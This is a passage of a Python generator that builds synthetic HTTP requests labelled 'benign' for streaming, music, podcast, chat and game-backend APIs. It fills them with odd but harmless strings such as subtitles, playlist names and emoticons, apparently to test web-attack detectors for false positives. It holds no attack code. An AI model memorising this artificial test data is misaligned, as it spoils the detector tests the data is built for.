                    '<Challenge xmlns="http://schemas.microsoft.com/DRM/2007/03/protocols/messages"><LA xmlns="http://schemas.microsoft.com/DRM/2007/03/protocols" Id="SignedData" xml:space="preserve">'
                    '<Version>1</Version><ContentHeader><WRMHEADER xmlns="http://schemas.microsoft.com/DRM/2007/03/PlayReadyHeader" version="4.0.0.0">'
                    '<DATA><PROTECTINFO><KEYLEN>16</KEYLEN><ALGID>AESCTR</ALGID></PROTECTINFO><KID>%s</KID>'
                    '<LA_URL>https://%s/playready/rightsmanager.asmx</LA_URL></DATA></WRMHEADER></ContentHeader>'
                    '<EncryptedData>%s</EncryptedData></LA></Challenge></challenge></AcquireLicense></soap:Body></soap:Envelope>'
                    % (base64.b64encode(rbytes(rng, 16)).decode(), VID_DRM, challenge))
            h = [["Host", VID_DRM], ["User-Agent", rng.choice(PLAYER_UAS[5:7] + BROWSER_UAS[3:4])],
                 ["Content-Type", "text/xml; charset=utf-8"],
                 ["SOAPAction", "\"http://schemas.microsoft.com/DRM/2007/03/protocols/AcquireLicense\""]]
            out.append(mk("benign", "drm_license", "POST", "/playready/rightsmanager.asmx?%s" % qs([("cid", a)]), h, body))
        else:
            h = [["Host", VID_DRM], ["User-Agent", rng.choice(PLAYER_UAS[:2])], ["Accept", "*/*"]]
            out.append(mk("benign", "drm_license", "GET", "/fairplay/cert.der?v=%d" % rng.randint(2, 9), h))
    return out


SUBTITLES = [
    ("vtt", "en", "WEBVTT\nKind: captions\nLanguage: en\n\n"
     "00:00:01.000 --> 00:00:04.000 line:0 position:20% size:60% align:start\n<v Roger Bingham>We are in New York City\n\n"
     "00:00:04.500 --> 00:00:07.250\n<i>(distant sirens)</i>\n\n"
     "00:00:07.300 --> 00:00:10.000\n<c.yellow.bg_black>Don't \u2014 don't touch that!</c>\n"),
    ("vtt", "en", "WEBVTT\n\nSTYLE\n::cue(.loud) { color: #ff4040; font-weight: bold; }\n::cue(v[voice=\"Narrator\"]) { font-style: italic; }\n\n"
     "NOTE Translated by the community team, reviewed 2024-03-02\n\n"
     "1\n00:00:00.500 --> 00:00:02.000\n<v Narrator>Previously on <i>Harbour Lights</i>...\n\n"
     "2\n00:00:02.100 --> 00:00:05.900\n<c.loud>STOP!</c> <b>Everybody</b> get down &amp; stay down.\n\n"
     "3\n00:00:06.000 --> 00:00:08.400\nI &lt;3 you too, idiot.\n"),
    ("vtt", "en", "WEBVTT\n\n00:00:12.000 --> 00:00:16.000\n<00:00:12.500>Never <00:00:13.000>gonna <00:00:13.400>give <00:00:13.900>you <00:00:14.300>up\n\n"
     "00:00:16.100 --> 00:00:19.900\n\u266a Never gonna let you down \u266a\n"),
    ("vtt", "ja", "WEBVTT\n\n00:00:03.000 --> 00:00:06.000\n<ruby>\u6f22<rt>\u304b\u3093</rt>\u5b57<rt>\u3058</rt></ruby>\u3092\u8aad\u3081\u308b\uff1f\n\n"
     "00:00:06.200 --> 00:00:08.000 vertical:rl\n\u300c\u3082\u3046\u9045\u3044\u3088\u2026\u300d\n"),
    ("srt", "en", "1\n00:00:01,000 --> 00:00:03,500\n{\\an8}[DOOR SLAMS]\n\n"
     "2\n00:00:03,600 --> 00:00:06,000\n<font color=\"#ffff00\">MARIA:</font> You're late. Again.\n\n"
     "3\n00:00:06,100 --> 00:00:08,000\n- Where were you?\n- \"Traffic.\" Sure.\n"),
    ("srt", "de", "1\n00:01:10,200 --> 00:01:12,900\n<i>Was zum Teufel...?</i>\n\n"
     "2\n00:01:13,000 --> 00:01:15,400\n{\\i1}Ich hab's dir doch gesagt!{\\i0}\n\n"
     "3\n00:01:15,500 --> 00:01:18,000\n<b>\u00dcbersetzung:</b> Team \"Nachtschicht\" <3\n"),
    ("srt", "es", "12\n00:10:44,100 --> 00:10:46,000\n{\\an8}<i>-- Radio: ...y ahora, el tiempo.</i>\n\n"
     "13\n00:10:46,100 --> 00:10:49,900\n\u00bfD\u00f3nde est\u00e1 el <u>verdadero</u> mapa?\n"),
    ("srt", "en", "1\n00:00:00,000 --> 00:00:02,000\n>_< ouch\n\n2\n00:00:02,100 --> 00:00:04,000\n<< REWIND >>\n\n"
     "3\n00:00:04,100 --> 00:00:06,000\nPlayer 1 -> Player 2: 1 - 0\n"),
    ("ass", "en", "[Script Info]\nTitle: Episode 3\nScriptType: v4.00+\nPlayResX: 1920\nPlayResY: 1080\n\n"
     "[V4+ Styles]\nFormat: Name, Fontname, Fontsize, PrimaryColour, Bold, Italic, Alignment\nStyle: Default,Arial,52,&H00FFFFFF,0,0,2\n\n"
     "[Events]\nFormat: Layer, Start, End, Style, Name, MarginL, MarginR, MarginV, Effect, Text\n"
     "Dialogue: 0,0:00:01.00,0:00:03.50,Default,,0,0,0,,{\\fad(200,200)}Welcome back, everyone!\n"
     "Dialogue: 0,0:00:03.60,0:00:06.00,Default,,0,0,0,,{\\pos(960,80)\\c&H00FFFF&}[SIGN: \"NO ENTRY\"]\n"),
    ("ttml", "en", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<tt xmlns=\"http://www.w3.org/ns/ttml\" xmlns:tts=\"http://www.w3.org/ns/ttml#styling\" "
     "xmlns:ttm=\"http://www.w3.org/ns/ttml#metadata\" xml:lang=\"en\">\n<head><styling><style xml:id=\"s1\" tts:color=\"white\" tts:fontStyle=\"italic\"/></styling></head>\n"
     "<body><div>\n<p begin=\"00:00:01.000\" end=\"00:00:03.000\">Hello,<br/>is anybody there?</p>\n"
     "<p begin=\"00:00:03.100\" end=\"00:00:05.000\" style=\"s1\"><span tts:fontWeight=\"bold\">(static)</span> ...over.</p>\n</div></body>\n</tt>\n"),
    ("vtt", "fr", "WEBVTT\n\nREGION\nid:fred\nwidth:40%\nlines:3\nregionanchor:0%,100%\nviewportanchor:10%,90%\nscroll:up\n\n"
     "00:00:00.000 --> 00:00:20.000 region:fred align:left\n<v Fred>Salut ! \u00c7a va ? C'est l'heure du d\u00e9j.\n"),
    ("srt", "pt-BR", "1\n00:00:02,000 --> 00:00:05,000\n<font face=\"Arial\" size=\"22\">Legendas por: \u00abEquipe Madrugada\u00bb</font>\n\n"
     "2\n00:00:05,100 --> 00:00:07,000\n- N\u00e3o! N\u00e3o aperta isso!!\n"),
]


def b_subtitles():
    rng, out = R("subtitles"), []
    for i in range(16):
        kind, lang, text = SUBTITLES[i % len(SUBTITLES)]
        vid = asset_id(rng)
        ctype = {"vtt": "text/vtt", "srt": "application/x-subrip", "ass": "text/x-ssa", "ttml": "application/ttml+xml"}[kind]
        mode = i % 3
        if mode == 0:
            h = api(rng, VID_API, ctype=ctype + "; charset=utf-8", extra=[["Origin", VID_WEB]])
            out.append(mk("benign", "subtitles", "PUT", "/api/v2/videos/%s/captions/%s?%s" % (vid, lang, qs([("kind", "subtitles"), ("name", "%s (community)" % lang)])), h, text))
        elif mode == 1:
            ct, body = multipart(rng, [("language", None, None, lang), ("name", None, None, rng.choice(["English (CC)", "Deutsch", "Full subs v2"])),
                                       ("file", "episode03.%s.%s" % (lang, "ass" if kind == "ass" else kind), ctype, text)])
            h = browser(rng, VID_API, origin=VID_WEB) + [["Content-Type", ct]]
            out.append(mkraw("benign", "subtitles", "POST", "/api/v2/videos/%s/captions" % vid, h, body))
        else:
            h = api(rng, VID_API, ctype="application/json", extra=[["Origin", VID_WEB]])
            out.append(mk("benign", "subtitles", "POST", "/api/v2/videos/%s/captions" % vid, h,
                          jdump({"language": lang, "format": kind, "content": text, "auto_sync": rng.random() < 0.5})))
    return out


# --------------------------------------------------------------------------
# benign: music, podcasts, live streaming
# --------------------------------------------------------------------------

FEED_URLS = [
    "https://feeds.simplecast.com/54nAGcIl",
    "https://anchor.fm/s/8d2f1a0c/podcast/rss",
    "https://feeds.megaphone.fm/GLT1412515089",
    "https://rss.art19.com/the-daily-grind",
    "https://feeds.buzzsprout.com/1823394.rss",
    "https://podcasts.files.bbci.co.uk/p02nq0gn.rss",
    "https://feed.podbean.com/retrogamingroundtable/feed.xml",
    "https://www.omnycontent.com/d/playlist/e73c998e-6e60-432f-8610-ae210140c5b1/a91018a4-ea4f-4130-bf55-ae270180c327/44710ecc-10bb-48d1-93c7-ae270180c33e/podcast.rss",
    "https://feeds.transistor.fm/side-quest-stories?id=7f3e",
]

RSS_ITEM_NOTES = [
    "<p>This week we're joined by <strong>Sam O'Connor</strong> to talk about \"Hollow Knight: Silksong\" rumours.</p>"
    "<ul><li>00:00 Intro</li><li>12:40 Listener mail</li><li>58:10 Picks &amp; pans</li></ul>"
    "<p>Support the show: <a href=\"https://www.patreon.com/sidequest\">patreon.com/sidequest</a></p>",
    "<p>Is 30fps \"good enough\"? We argue so you don't have to.</p><p>Music: \u201cBit Shift\u201d by Kevin M. (CC BY 4.0)</p>",
    "<p>Episode #100!!! Thank you all &lt;3</p><p>Sponsored by <a href=\"https://nordvpn.com/sidequest\">NordVPN</a> \u2014 use code SIDEQUEST.</p>",
]


def rss_doc(rng, title):
    items = []
    for n in range(2):
        guid = uuid4(rng)
        items.append(
            "<item><title>Ep. %d: %s</title><guid isPermaLink=\"false\">%s</guid>"
            "<pubDate>%s, %02d Apr 2024 06:00:00 +0000</pubDate>"
            "<enclosure url=\"https://media.tunewave.fm/pod/%s.mp3\" length=\"%d\" type=\"audio/mpeg\"/>"
            "<itunes:duration>%02d:%02d:%02d</itunes:duration><itunes:episode>%d</itunes:episode>"
            "<description><![CDATA[%s]]></description></item>"
            % (99 + n, rng.choice(["Who's afraid of the dark?", "\"Remaster\" or remake?", "The 1% club",
                                     "Patch 1.04 & you", "Q&A: you asked, we answered"]),
               guid, rng.choice(["Mon", "Tue", "Wed", "Thu"]), rng.randint(1, 28), guid, rng.randint(10**7, 10**8),
               rng.randint(0, 2), rng.randint(0, 59), rng.randint(0, 59), 99 + n, rng.choice(RSS_ITEM_NOTES)))
    return ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
            "<rss version=\"2.0\" xmlns:itunes=\"http://www.itunes.com/dtds/podcast-1.0.dtd\" "
            "xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" xmlns:podcast=\"https://podcastindex.org/namespace/1.0\">\n"
            "<channel><title>%s</title><link>https://sidequest.show</link><language>en-us</language>"
            "<itunes:author>Side Quest Media</itunes:author><itunes:explicit>false</itunes:explicit>"
            "<itunes:category text=\"Leisure\"><itunes:category text=\"Video Games\"/></itunes:category>"
            "<podcast:locked>no</podcast:locked>\n%s\n</channel></rss>\n" % (title, "\n".join(items)))


def b_podcast_feed():
    rng, out = R("podcast_feed"), []
    for i in range(12):
        kind = i % 4
        if kind == 0:
            body = {"feed_url": FEED_URLS[i % len(FEED_URLS)], "category": rng.choice(["Leisure/Video Games", "Comedy", "True Crime", "Music History"]),
                    "explicit": False, "contact_email": "hosts@sidequest.show", "language": "en"}
            h = api(rng, POD_API, ctype="application/json", extra=[["Origin", "https://podcasters.tunewave.fm"]])
            out.append(mk("benign", "podcast_feed", "POST", "/api/v1/shows/submit", h, jdump(body)))
        elif kind == 1:
            h = api(rng, POD_API, ua=rng.choice(PODCAST_UAS), accept="application/json")
            out.append(mk("benign", "podcast_feed", "GET", "/api/v1/shows/lookup?" + qs([("url", FEED_URLS[(i + 3) % len(FEED_URLS)]), ("refresh", "false")]), h))
        elif kind == 2:
            title = rng.choice(["Side Quest Stories", "Don't Press Start", "Critical Hit & Run", "The \"Retro\" Hour"])
            h = api(rng, POD_API, ctype="application/rss+xml; charset=utf-8", extra=[["If-Match", "\"%s\"" % hexid(rng, 16)]])
            out.append(mk("benign", "podcast_feed", "PUT", "/api/v1/shows/%s/feed.xml" % b62(rng, 10), h, rss_doc(rng, title)))
        else:
            h = [["Host", POD_API], ["User-Agent", "Buzzsprout-WebSub/1.2"], ["Content-Type", "application/x-www-form-urlencoded"], ["Accept", "*/*"]]
            out.append(mk("benign", "podcast_feed", "POST", "/websub/hub", h,
                          form([("hub.mode", "publish"), ("hub.url", FEED_URLS[(i + 5) % len(FEED_URLS)])])))
    return out


PLAYLIST_NAMES = [
    "Songs for a rainy day :'(",
    "<3 2024 <3",
    "80's/90's Rock & Roll",
    "gym >>> everything",
    "\U0001f525 Friday night \U0001f525",
    "sad boi hours (don't judge)",
    "Road trip \u2014 Lisbon \u2192 Porto",
    "100% \"organic\" beats",
    "songs to code to // lofi",
    "#1 hits of the '60s",
    "Ma\u00f1ana ser\u00e1 bonito \U0001f49c",
    "=) happy tunes =)",
    "TOP 50 -- Germany",
    "Mom & Dad's wedding (1987)",
    "work? no. vibe? yes.",
]


def b_playlist_edit():
    rng, out = R("playlist_edit"), []
    for i in range(len(PLAYLIST_NAMES) + 6):
        pl = b62(rng, 22)
        kind = 0 if i < len(PLAYLIST_NAMES) else 1 + i % 3
        h = api(rng, MUS_API, ua=rng.choice(BROWSER_UAS + PODCAST_UAS[4:]), ctype="application/json",
                extra=[["Origin", MUS_WEB], ["App-Platform", rng.choice(["WebPlayer", "iOS", "Android"])]])
        if kind == 0:
            body = {"name": PLAYLIST_NAMES[i], "description": rng.choice([
                "for when it's 3am and you can't sleep", "no skips. I mean it.", "", "collab w/ @jules \u2014 add whatever",
                "Volume 2 (vol. 1 got deleted, don't ask)"]), "public": rng.random() < 0.5, "collaborative": rng.random() < 0.3}
            out.append(mk("benign", "playlist_edit", "PUT", "/v1/playlists/%s" % pl, h, jdump(body)))
        elif kind == 1:
            body = {"uris": ["tunewave:track:%s" % b62(rng, 22) for _ in range(rng.randint(1, 5))], "position": rng.randint(0, 40)}
            out.append(mk("benign", "playlist_edit", "POST", "/v1/playlists/%s/tracks" % pl, h, jdump(body)))
        elif kind == 2:
            body = {"range_start": rng.randint(0, 30), "insert_before": rng.randint(0, 30), "range_length": rng.randint(1, 3),
                    "snapshot_id": b64url(rbytes(rng, 24))}
            out.append(mk("benign", "playlist_edit", "PUT", "/v1/playlists/%s/tracks" % pl, h, jdump(body)))
        else:
            body = {"tracks": [{"uri": "tunewave:track:%s" % b62(rng, 22), "positions": [rng.randint(0, 50)]}],
                    "snapshot_id": b64url(rbytes(rng, 24))}
            out.append(mk("benign", "playlist_edit", "DELETE", "/v1/playlists/%s/tracks" % pl, h, jdump(body)))
    return out


LYRICS = [
    ["I don't wanna say it's over", "'cause it's not (no, it's not)", "You said \"forever\", I said \"maybe\"",
     "Now we're dancing on the 405"],
    ["Hey! Ho! Let's go (let's go!)", "We've got nothin' but the radio", "Turn it up, it's 1999 \u2014 or so"],
    ["She said \u2018don\u2019t\u2019, I said \u2018won\u2019t\u2019", "And the moon went down on Route 66",
     "Ain't no \"if\" or \"but\" about it"],
    ["(Ooh-ooh) / (ah-ah)", "One, two \u2014 one, two, three, four!", "Sing it like you mean it: la-la-la"],
    ["Je ne sais pas o\u00f9 tu vas", "Mais j'y vais aussi, d'accord ?", "C'est la vie, c'est \u00e7a"],
    ["\u541b\u306e\u58f0\u304c\u805e\u3053\u3048\u308b", "\u591c\u660e\u3051\u307e\u3067 \u2014 \u300c\u5927\u4e08\u592b\u300d\u3063\u3066"],
    ["Where'd you go? Where'd you go?", "I'm a ghost in the machine (beep-boop)", "Ctrl+Z can't take it back"],
    ["We're the kids of '99 & '02", "Y'all don't know what we've been through", "#nofilter, no regrets"],
]


def b_lyrics():
    rng, out = R("lyrics"), []
    for i in range(9):
        lines = LYRICS[i % len(LYRICS)]
        t = rng.uniform(5, 20)
        synced = []
        for ln in lines:
            synced.append({"startTimeMs": int(t * 1000), "words": ln})
            t += rng.uniform(2.5, 5)
        if i % 3 == 2:
            lrc = "\n".join("[%02d:%05.2f]%s" % (s["startTimeMs"] // 60000, (s["startTimeMs"] % 60000) / 1000, s["words"]) for s in synced)
            lrc = "[ar:The Night Shift]\n[ti:Untitled #%d]\n[by:community]\n" % (i + 1) + lrc
            h = api(rng, MUS_API, ctype="text/plain; charset=utf-8", extra=[["Origin", MUS_WEB]])
            out.append(mk("benign", "lyrics", "PUT", "/v1/tracks/%s/lyrics.lrc" % b62(rng, 22), h, lrc))
        else:
            body = {"lyrics": {"syncType": "LINE_SYNCED", "lines": synced, "language": rng.choice(["en", "fr", "ja"]),
                               "provider": "community", "contributor_note": rng.choice(["fixed \"gonna\" vs \"going to\"", "line 3 timing was off by ~0.4s", "typo's fixed"])}}
            h = api(rng, MUS_API, ctype="application/json", extra=[["Origin", MUS_WEB]])
            out.append(mk("benign", "lyrics", "POST", "/v1/tracks/%s/lyrics" % b62(rng, 22), h, jdump(body)))
    return out


SEARCHES = [
    "Guns N' Roses", "AC/DC", "!!!", "Sunn O)))", "Panic! at the Disco", "Earth, Wind & Fire", "?uestlove",
    "Sigur R\u00f3s", "Mot\u00f6rhead", "H\u00fcsker D\u00fc", "$uicideboy$", "Tyler, the Creator", "*NSYNC",
    "Godspeed You! Black Emperor", "...And You Will Know Us by the Trail of Dead", "alt-J (\u2206)",
    "Florence + the Machine", "(I Can't Get No) Satisfaction", "Don't Stop Me Now", "Where Is My Mind?",
    "System of a Down - Chop Suey!", "the the", "Therapy?", "Ke$ha", "P!nk", "M83", "+44", "múm",
    "Sleep Token \u2013 \"Take Me Back to Eden\"", "Beyonc\u00e9", "\u7c73\u6d25\u7384\u5e2b", "BTS \ubc29\ud0c4\uc18c\ub144\ub2e8",
    "lofi hip hop radio \U0001f4da beats to relax/study to", "Weird Al \"Yankovic\"", "2 Unlimited - No Limit",
    "Blink-182 'All the Small Things'", "Run-D.M.C.", "The Dillinger Escape Plan", "C.R.E.A.M.",
]


def b_music_search():
    rng, out = R("music_search"), []
    for i in range(24):
        term = SEARCHES[i % len(SEARCHES)] if i < len(SEARCHES) else rng.choice(SEARCHES)
        kind = i % 3
        if kind == 0:
            uri = "/v1/search?" + qs([("q", term), ("type", "artist,track,album"), ("limit", "20"), ("market", rng.choice(["US", "DE", "BR", "JP"]))])
            h = api(rng, MUS_API, ua=rng.choice(BROWSER_UAS + PODCAST_UAS[4:]), extra=[["Origin", MUS_WEB]])
        elif kind == 1:
            uri = "/search/%s" % pq(term)
            h = browser(rng, "open.tunewave.fm", accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        else:
            uri = "/v1/search/suggest?" + qs([("prefix", term[: rng.randint(2, max(2, len(term)))]), ("types", "artist")])
            h = api(rng, MUS_API, ua=rng.choice(PODCAST_UAS[4:]))
        out.append(mk("benign", "music_search", "GET", uri, h))
    # a few of the remaining names once more, as plain track searches
    for term in SEARCHES[24:28]:
        uri = "/v1/search?" + qs([("q", term), ("type", "track"), ("offset", str(rng.choice([0, 20, 40])))])
        out.append(mk("benign", "music_search", "GET", uri, api(rng, MUS_API, ua=rng.choice(PODCAST_UAS[4:]))))
    return out


CHAT_MESSAGES = [
    "Kappa Kappa Kappa", "PogChamp that clutch!!!", "<3 <3 <3", ">_< why did he jump", "o7 chat, see you tomorrow",
    "\\o/ WE DID IT \\o/", "(\u256f\u00b0\u25a1\u00b0)\u256f\ufe35 \u253b\u2501\u253b", "\u252c\u2500\u252c \u30ce( \u309c-\u309c\u30ce)",
    "\u00af\\_(\u30c4)_/\u00af", "!uptime", "!so @pixel_paula", "/ban spambot_9000 advertising viewers",
    "/timeout loudguy42 600 caps spam", "/me is eating popcorn", "!drops", "GG WP EZ Clap", "LUL he said 'trust me'",
    "monkaS monkaS monkaS", "if (boss.hp < 10) { panic(); }", "sudo make me a sandwich",
    "while(true) { watch_stream(); } // send help", "NotLikeThis 0/10 deaths -> 10/0 deaths", "1 + 1 = 11 right? 4Head",
    "is this 1080p or 720p?", "that's 100% a bug, report it on the tracker", "O_o", "=^.^= meow", ":') I'm crying",
    "<(\"<) <(\"<) (>\")> (>\")>", "\u00a1\u00a1\u00a1GOOOOL!!!", "\u0433\u0433\u0432\u043f", "\u8349\u8349\u8349",
    "\u314b\u314b\u314b\u314b\u314b", "what's the song? -> !song", "@mod can you pin the link? https://discord.gg/ironforge",
    "first time chatter, long time lurker HeyGuys", "DROP IT! DROP THE LOOT!", "he's 1 HP. ONE. HP.",
    "-_- not again", "xD xD xD", "<-- this guy gets it", "chat is this real?? \U0001f480\U0001f480",
    "\u2800\u2800\u2800\u2800\u2800\u28e0\u28e4\u28e4\u28e4\u28e4\u28e4\u28c4\u2800\u2800\u2800\u2800\n\u2800\u2800\u2800\u28b0\u28ff\u287f\u281b\u281b\u281b\u283b\u28ff\u28ff\u28e6\u2800\u2800\n\u2800\u2800\u2800\u28ff\u28ff\u2801\u2800\u2800\u2800\u2800\u2808\u28ff\u28ff\u2800\u2800",
    "\u2591\u2591\u2591\u2591\u2584\u2584\u2584\u2584\u2580\u2580\u2580\u2580\u2580\u2580\u2584\u2584\u2584\u2591\u2591\u2591\u2591\n\u2591\u2591\u2584\u2580\u2591\u2591\u2591\u2591\u2591\u2591\u2591\u2591\u2591\u2591\u2591\u2580\u2584\u2591\u2591\n\u2591\u2588\u2591\u2591\u2584\u2580\u2580\u2584\u2591\u2591\u2584\u2580\u2580\u2584\u2591\u2591\u2588\u2591",
    "!commands", "/poll \"Next game?\" Elden Ring | Hades II | Balatro", "Squid1 Squid2 Squid3 Squid2 Squid4",
    "the chat when he says 'one more run': \U0001f921", "2+2=5? ratio", "TTS: hello streamer, your cat is on the keyboard",
]


def b_chat():
    rng, out = R("chat"), []
    for i, msg in enumerate(CHAT_MESSAGES):
        kind = i % 3
        if kind == 0:
            body = {"broadcaster_id": str(rng.randint(10**7, 10**9)), "sender_id": str(rng.randint(10**7, 10**9)), "message": msg}
            h = api(rng, LIVE_API, ctype="application/json", extra=[["Client-Id", b62(rng, 30).lower()]])
            out.append(mk("benign", "chat", "POST", "/helix/chat/messages", h, jdump(body)))
        elif kind == 1:
            h = browser(rng, LIVE_API, origin=LIVE_WEB) + [["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"],
                                                           ["X-CSRF-Token", b62(rng, 40)]]
            out.append(mk("benign", "chat", "POST", "/api/chat/%s/send" % rng.choice(["speedrunsdaily", "cozy_cooking", "esports_main"]), h,
                          form([("message", msg), ("nonce", hexid(rng, 32)), ("reply_parent", "")])))
        else:
            body = {"channel": rng.choice(["speedrunsdaily", "lofi_beats", "pixel_paula"]), "text": msg,
                    "emotes": [{"id": str(rng.randint(1, 99999)), "positions": [[0, 4]]}] if rng.random() < 0.3 else [],
                    "client_nonce": uuid4(rng)}
            h = api(rng, LIVE_API, ua=rng.choice(MOBILE_UAS), ctype="application/json; charset=utf-8")
            out.append(mk("benign", "chat", "POST", "/v5/channels/messages", h, jdump(body)))
    return out


STREAM_TITLES = [
    "!drops enabled | Ranked grind to Diamond | !discord !socials",
    "24/7 lofi \U0001f3a7 beats to study/relax to",
    "[DAY 12] Elden Ring: no-hit run attempt #348 (send help)",
    "cooking w/ chat: you pick the ingredients >:)",
    "Speedrun practice \u2014 Any% / 100% splits | !pb !wr",
    "\u301cJP/EN\u301c \u96d1\u8ac7 & Minecraft \u5efa\u7bc9 \U0001f3e0",
    "<3 subathon <3 | $1 = 10s | !goal",
]


def b_live_stream():
    rng, out = R("live_stream"), []
    for i in range(14):
        kind = i % 7
        bid = str(rng.randint(10**7, 10**9))
        cid = [["Client-Id", b62(rng, 30).lower()]]
        if kind == 0:
            h = api(rng, LIVE_API, ctype="application/json", extra=cid)
            out.append(mk("benign", "live_stream", "PATCH", "/helix/channels?broadcaster_id=%s" % bid, h,
                          jdump({"title": STREAM_TITLES[i % len(STREAM_TITLES)], "game_id": str(rng.randint(1000, 600000)),
                                 "tags": rng.sample(["English", "Speedrun", "NoBackseating", "Chill", "Cozy", "Competitive"], 3),
                                 "broadcaster_language": "en"})))
        elif kind == 1:
            h = api(rng, LIVE_API, extra=cid)
            out.append(mk("benign", "live_stream", "POST", "/helix/clips?broadcaster_id=%s&has_delay=false" % bid, h + [["Content-Length", "0"]]))
        elif kind == 2:
            h = api(rng, LIVE_API, extra=cid)
            out.append(mk("benign", "live_stream", "GET", "/helix/streams?" + "&".join("user_login=%s" % n for n in rng.sample(
                ["speedrunsdaily", "pixel_paula", "cozy_cooking", "xx_gl1tch_xx", "dr_mario_64", "the__zone"], 3)) + "&first=20", h))
        elif kind == 3:
            msg_id = uuid4(rng)
            ev = {"subscription": {"id": uuid4(rng), "type": "channel.follow", "version": "2", "status": "enabled",
                                   "condition": {"broadcaster_user_id": bid, "moderator_user_id": bid},
                                   "transport": {"method": "webhook", "callback": "https://bot.pixelpaula.gg/eventsub"}},
                  "event": {"user_id": str(rng.randint(10**6, 10**9)), "user_login": "n00b_slayer_99", "user_name": "N00b_Slayer_99",
                            "broadcaster_user_id": bid, "followed_at": "2024-04-12T18:%02d:11.634234626Z" % rng.randint(0, 59)}}
            h = [["Host", "bot.pixelpaula.gg"], ["User-Agent", "StreamHaven-Eventsub/1.0"], ["Content-Type", "application/json"],
                 ["StreamHaven-Eventsub-Message-Id", msg_id], ["StreamHaven-Eventsub-Message-Retry", "0"],
                 ["StreamHaven-Eventsub-Message-Type", "notification"],
                 ["StreamHaven-Eventsub-Message-Signature", "sha256=" + hexid(rng, 64)],
                 ["StreamHaven-Eventsub-Message-Timestamp", "2024-04-12T18:30:11.634234626Z"]]
            out.append(mk("benign", "live_stream", "POST", "/eventsub", h, jdump(ev)))
        elif kind == 4:
            h = api(rng, LIVE_API, ctype="application/json", extra=cid)
            out.append(mk("benign", "live_stream", "POST", "/helix/moderation/bans?broadcaster_id=%s&moderator_id=%s" % (bid, bid), h,
                          jdump({"data": {"user_id": str(rng.randint(10**6, 10**9)), "duration": rng.choice([60, 600, 86400]),
                                          "reason": rng.choice(["spamming \"free followers\" links", "backseating after 3 warnings :/", "slurs"])}})))
        elif kind == 5:
            h = api(rng, LIVE_API, ctype="application/json", extra=cid)
            out.append(mk("benign", "live_stream", "POST", "/helix/polls", h,
                          jdump({"broadcaster_id": bid, "title": rng.choice(["Which boss next?", "Pineapple on pizza: y/n?", "Stream tmrw @ 8pm?"]),
                                 "choices": [{"title": t} for t in rng.choice([["Malenia", "Radahn", "Mohg"], ["YES", "no >:("], ["8pm", "9pm", "who cares <3"]])],
                                 "duration": 300})))
        else:
            h = [["Host", LIVE_CHAT], ["User-Agent", rng.choice(BROWSER_UAS)], ["Upgrade", "websocket"], ["Connection", "Upgrade"],
                 ["Sec-WebSocket-Key", base64.b64encode(rbytes(rng, 16)).decode()], ["Sec-WebSocket-Version", "13"],
                 ["Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"], ["Origin", LIVE_WEB]]
            out.append(mk("benign", "live_stream", "GET", "/?client=web&v=%d.%d" % (rng.randint(1, 3), rng.randint(0, 30)), h))
    return out


# --------------------------------------------------------------------------
# benign: game backends
# --------------------------------------------------------------------------

PLAYER_NAMES = [
    "[xX_Sn1per_Xx]", "xX_D3str0y3r_Xx", "O'Brien", "~*Sparkle*~", "-=RaZoR=-", "|TTV| ShadowFox", "{DK}Reaper",
    "Ninja'sGhost", "\u01a4\u0158\u00d8 \u011e\u0394\u039c\u03a3\u0158", "<3 Cupcake <3", "Mr. \"Clutch\" McGee",
    "^_^ Kawaii ^_^", "1337h4x0r", "Sir Lag-a-Lot", "player#4521", "N0_Sc0p3 360", "\u2605\u5f71\u2605",
    "El Ni\u00f1o", "Zo\u00eb_the_Healer", "D'Artagnan", "._.", "Ctrl+Alt+Defeat",
]
CLAN_TAGS = ["[FaZe]", "<ACE>", "{DK}", "=KoS=", "|TTV|", "~XIII~", ".:NLG:.", "[404]", "(MOM)", "\u300eJP\u300f"]
REGIONS = ["eu-west-1", "eu-central-1", "us-east-1", "us-west-2", "ap-northeast-1", "sa-east-1", "ap-southeast-2"]


def b_matchmaking():
    rng, out = R("matchmaking"), []
    for i in range(12):
        kind = i % 4
        if kind in (0, 1):
            members = [{"player_id": uuid4(rng), "mmr": rng.randint(800, 3200), "platform": rng.choice(["steam", "psn", "xbl", "epic"]),
                        "input": rng.choice(["kbm", "controller"])} for _ in range(rng.randint(1, 4))]
            body = {"playlist": rng.choice(["ranked_5v5", "casual_tdm", "br_squads", "arena_2v2", "coop_raid_hard"]),
                    "party": {"id": uuid4(rng), "members": members},
                    "latencies": {r: rng.randint(12, 280) for r in rng.sample(REGIONS, 4)},
                    "crossplay": rng.random() < 0.7, "attributes": {"map_vote": rng.choice(["ascent", "de_mirage", "2fort", "any"]),
                                                                     "voice": rng.choice(["party", "team", "off"])}}
            h = game(rng, G_MATCH, ctype="application/json")
            out.append(mk("benign", "matchmaking", "POST", "/v1/matchmaking/tickets", h, jdump(body)))
        elif kind == 2:
            h = game(rng, G_MATCH)
            out.append(mk("benign", "matchmaking", "GET", "/v1/matchmaking/tickets/%s?wait=%d" % (uuid4(rng), rng.choice([5, 10, 20])), h))
        else:
            h = game(rng, G_MATCH, ctype="application/json")
            out.append(mk("benign", "matchmaking", "POST", "/v1/sessions/%s/heartbeat" % uuid4(rng), h,
                          jdump({"tick": rng.randint(0, 200000), "players": rng.randint(2, 10), "state": rng.choice(["warmup", "live", "overtime"]),
                                 "score": "%d-%d" % (rng.randint(0, 13), rng.randint(0, 13))})))
    return out


def b_leaderboard():
    rng, out = R("leaderboard"), []
    boards = ["weekly_time_trial", "ranked_s7", "speedrun_any_pct", "highscore_endless", "kills_alltime", "trackmania_a01"]
    for i in range(15):
        b = rng.choice(boards)
        kind = i % 4
        if kind == 0:
            params = [("sort", rng.choice(["score", "-score", "time_ms", "rank:asc", "-updated_at,score"])), ("order", rng.choice(["desc", "asc"])),
                      ("limit", str(rng.choice([10, 25, 50, 100]))), ("offset", str(rng.randint(0, 20) * 50))]
            if rng.random() < 0.6:
                params.append(("platform", rng.choice(["pc", "ps5", "xsx", "switch", "all"])))
            if rng.random() < 0.5:
                params.append(("season", rng.choice(["S7", "2024-Q2", "current"])))
